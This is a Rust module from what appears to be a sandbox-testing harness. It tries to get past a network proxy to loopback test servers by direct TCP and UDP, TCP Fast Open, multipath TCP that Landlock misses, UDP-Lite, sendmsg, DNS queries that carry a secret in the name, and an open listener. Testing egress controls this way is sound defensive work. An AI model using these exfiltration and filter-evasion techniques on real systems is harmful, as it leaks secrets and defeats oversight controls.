//! Direct ways to the network, past the proxy. The internet is a server of the harness on loopback addresses.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

use super::{Attack, Evidence, Run};
use crate::outcome::{At, Attempt, Stop};
use crate::sys::{self, Arg};
use crate::targets::Targets;

pub(super) const TIMEOUT: Duration = Duration::from_secs(2);

pub(super) const ATTACKS: &[Attack] = &[
    reached(
        "tcp-direct",
        |targets| tcp(targets, "server-v4"),
        "Connects to a server by its address, past the proxy.",
    ),
    reached("tcp-ipv6", |targets| tcp(targets, "server-v6"), "Connects to a server by its IPv6 address."),
    reached(
        "tcp-mapped",
        |targets| tcp(targets, "server-mapped"),
        "Connects to a server by its IPv4 address inside an IPv6 one.",
    ),
    Attack {
        name: "tcp-fast-open",
        says: "Sends data with the first packet of a connection, without `connect`.",
        evidence: Evidence::Reached,
        run: Run::Do(|targets| {
            let socket = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            let address = Address::of(targets.text_of("server-v4")?)?;
            send_to(&socket, targets.text_of("word")?, libc::MSG_FASTOPEN, &address)?;
            Ok("sent".to_owned())
        }),
    },
    Attack {
        name: "tcp-multipath",
        says: "Connects by multipath TCP, which Landlock does not see as TCP.",
        evidence: Evidence::Reached,
        run: Run::Do(|targets| {
            let socket = match socket(libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_MPTCP) {
                Err(Stop::Blocked { errno: Some(libc::EPROTONOSUPPORT), .. }) => {
                    return Err(Stop::unsupported("no multipath TCP"));
                }
                other => other?,
            };
            let address = Address::of(targets.text_of("server-v4")?)?;
            let mut arguments =
                [Arg::Int(socket.as_raw_fd().into()), Arg::In(address.bytes()), Arg::Int(address.length())];
            sys::call(libc::SYS_connect, &mut arguments).at("connect")?;
            std::fs::File::from(socket).write_all(targets.text_of("word")?.as_bytes()).at("send")?;
            Ok("sent".to_owned())
        }),
    },
    Attack {
        name: "tcp-message",
        says: "Connects by `sendmsg` with data in the first packet.",
        evidence: Evidence::Reached,
        run: Run::Do(|targets| {
            let socket = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            let address = Address::of(targets.text_of("server-v4")?)?;
            let word = targets.text_of("word")?.as_bytes();
            let part = sys::words(&[word.as_ptr() as u64, word.len() as u64]);
            // struct msghdr: name, its length, parts, their number, control, its length, flags.
            let name = address.bytes();
            let head = sys::words(&[name.as_ptr() as u64, 16, part.as_ptr() as u64, 1, 0, 0, 0]);
            let flags = Arg::Int(libc::MSG_FASTOPEN.into());
            let mut arguments = [Arg::Int(socket.as_raw_fd().into()), Arg::In(&head), flags];
            sys::call(libc::SYS_sendmsg, &mut arguments).at("sendmsg")?;
            Ok("sent".to_owned())
        }),
    },
    reached("udp-direct", |targets| udp(targets, "udp-v4"), "Sends a datagram to a server outside."),
    reached("udp-ipv6", |targets| udp(targets, "udp-v6"), "Sends a datagram to a server outside by IPv6."),
    Attack {
        name: "udp-lite",
        says: "Sends a datagram by UDP-Lite, a protocol that filters forget.",
        evidence: Evidence::Reached,
        run: Run::Do(|targets| {
            let socket = match socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE) {
                Err(Stop::Blocked { errno: Some(libc::EPROTONOSUPPORT), .. }) => {
                    return Err(Stop::unsupported("no UDP-Lite"));
                }
                other => other?,
            };
            let address = Address::of(targets.text_of("udp-lite")?)?;
            send_to(&socket, targets.text_of("word")?, 0, &address)?;
            Ok("sent".to_owned())
        }),
    },
    Attack {
        name: "dns-udp",
        says: "Sends a secret out as the name of a DNS question by UDP.",
        evidence: Evidence::Reached,
        run: Run::Do(|targets| {
            let socket = UdpSocket::bind("127.0.0.1:0").at("bind")?;
            let question = question(targets.text_of("word")?);
            socket.send_to(&question, targets.text_of("dns-udp")?).at("send")?;
            Ok("sent".to_owned())
        }),
    },
    Attack {
        name: "dns-tcp",
        says: "Sends a secret out as the name of a DNS question by TCP.",
        evidence: Evidence::Reached,
        run: Run::Do(|targets| {
            let mut stream = stream(targets.text_of("dns-tcp")?)?;
            let question = question(targets.text_of("word")?);
            let length = u16::try_from(question.len()).unwrap_or(u16::MAX).to_be_bytes();
            stream.write_all(&[&length, question.as_slice()].concat()).at("send")?;
            Ok("sent".to_owned())
        }),
    },
    Attack {
        name: "listen-outside",
        says: "Listens on a port and lets somebody outside fetch the secret.",
        evidence: Evidence::Contacted,
        run: Run::Do(|targets| {
            let port = targets.number("listen-port")?;
            let listener = TcpListener::bind(format!("127.0.0.1:{port}")).at("bind")?;
            listener.set_nonblocking(true).at("set the mode")?;
            let until = Instant::now() + TIMEOUT;
            while Instant::now() < until {
                if let Ok((mut stream, _)) = listener.accept() {
                    stream.write_all(targets.text_of("word")?.as_bytes()).at("send")?;
                    return Ok("fetched".to_owned());
                }
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(Stop::blocked("nobody came"))
        }),
    },
];

const fn reached(name: &'static str, attempt: fn(&Targets) -> Attempt, says: &'static str) -> Attack {
    Attack { name, says, evidence: Evidence::Reached, run: Run::Do(attempt) }
}

/// An address as the kernel takes it.
pub(super) struct Address(Vec<u8>);

impl Address {
    pub(super) fn of(text: &str) -> Result<Address, Stop> {
        let address: SocketAddr =
            text.parse().map_err(|_| Stop::unsupported(format!("`{text}` is no address")))?;
        let port = address.port().to_be_bytes();
        let family = if address.is_ipv4() { libc::AF_INET } else { libc::AF_INET6 };
        let mut bytes = u16::try_from(family).unwrap_or(0).to_ne_bytes().to_vec();
        bytes.extend(port);
        match address {
            SocketAddr::V4(v4) => {
                bytes.extend(v4.ip().octets());
                bytes.extend([0; 8]);
            }
            SocketAddr::V6(v6) => {
                bytes.extend([0; 4]);
                bytes.extend(v6.ip().octets());
                bytes.extend([0; 4]);
            }
        }
        Ok(Address(bytes))
    }

    pub(super) fn bytes(&self) -> &[u8] {
        &self.0
    }

    fn length(&self) -> i64 {
        i64::try_from(self.0.len()).unwrap_or(0)
    }
}

pub(super) fn socket(family: libc::c_int, kind: libc::c_int, protocol: libc::c_int) -> Result<OwnedFd, Stop> {
    let mut arguments = [Arg::Int(family.into()), Arg::Int(kind.into()), Arg::Int(protocol.into())];
    sys::open(libc::SYS_socket, &mut arguments).at("socket")
}

fn send_to(socket: &OwnedFd, word: &str, flags: libc::c_int, to: &Address) -> Result<(), Stop> {
    let length = Arg::Int(i64::try_from(word.len()).unwrap_or(0));
    let fd = Arg::Int(socket.as_raw_fd().into());
    let mut arguments = [
        fd,
        Arg::In(word.as_bytes()),
        length,
        Arg::Int(flags.into()),
        Arg::In(to.bytes()),
        Arg::Int(to.length()),
    ];
    sys::call(libc::SYS_sendto, &mut arguments).at("sendto").map(drop)
}

/// A connection with time limits.
pub(super) fn stream(address: &str) -> Result<TcpStream, Stop> {
    let address = address.parse().map_err(|_| Stop::unsupported(format!("`{address}` is no address")))?;
    let stream = TcpStream::connect_timeout(&address, TIMEOUT).at("connect")?;
    stream.set_read_timeout(Some(TIMEOUT)).at("set a time limit")?;
    stream.set_write_timeout(Some(TIMEOUT)).at("set a time limit")?;
    Ok(stream)
}

/// The proof is what the server answers.
fn tcp(targets: &Targets, server: &str) -> Attempt {
    let mut stream = stream(targets.text_of(server)?)?;
    stream.write_all(format!("{}\n", targets.text_of("word")?).as_bytes()).at("send")?;
    let mut answer = [0; 64];
    let count = stream.read(&mut answer).at("receive")?;
    Ok(String::from_utf8_lossy(answer.get(..count).unwrap_or_default()).into_owned())
}

fn udp(targets: &Targets, server: &str) -> Attempt {
    let to = targets.text_of(server)?;
    let from = if to.starts_with('[') { "[::1]:0" } else { "127.0.0.1:0" };
    let socket = UdpSocket::bind(from).at("bind")?;
    socket.send_to(targets.text_of("word")?.as_bytes(), to).at("send")?;
    Ok("sent".to_owned())
}

/// A DNS question for the address of `word.attack.test`.
fn question(word: &str) -> Vec<u8> {
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [word, "attack", "test"] {
        message.push(u8::try_from(label.len()).unwrap_or(63));
        message.extend(label.bytes());
    }
    message.extend([0, 0, 1, 0, 1]);
    message
}
